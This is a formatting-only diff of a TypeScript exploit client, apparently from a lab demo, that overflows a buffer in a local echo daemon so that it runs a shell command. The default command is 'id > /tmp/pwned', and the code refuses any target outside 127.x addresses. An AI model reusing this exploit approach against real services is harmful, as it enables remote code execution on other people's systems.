@@ -81,7 +81,9 @@ async function attack(host: string, port: number, binary: string, command: strin
   // The server answers nothing: it runs the command instead. The next message finds it alive.
   await new Promise((resolve) => setTimeout(resolve, 300));
   await conversation.close();
-  process.stderr.write(`client: sent ${message.length} bytes for a buffer of ${bufferSize}, to run: ${command}\n`);
+  process.stderr.write(
+    `client: sent ${message.length} bytes for a buffer of ${bufferSize}, to run: ${command}\n`,
+  );
 }
 
 function addressOf(binary: string, symbol: string): number {
@@ -92,11 +94,19 @@ function addressOf(binary: string, symbol: string): number {
 
 const { positionals, values } = parseArgs({
   allowPositionals: true,
-  options: { binary: { type: 'string', default: 'echod' }, command: { type: 'string', default: 'id > /tmp/pwned' } },
+  options: {
+    binary: { type: 'string', default: 'echod' },
+    command: { type: 'string', default: 'id > /tmp/pwned' },
+  },
 });
 const [mode, target = ''] = positionals;
 const [host, port] = target.split(':');
-if ((mode !== 'benign' && mode !== 'attack') || !isIPv4(host) || !host.startsWith('127.') || !(Number(port) > 0)) {
+if (
+  (mode !== 'benign' && mode !== 'attack') ||
+  !isIPv4(host) ||
+  !host.startsWith('127.') ||
+  !(Number(port) > 0)
+) {
   process.stderr.write('usage: client.js benign|attack 127.0.0.1:PORT [--binary FILE] [--command TEXT]\n');
   process.exit(2);
 }
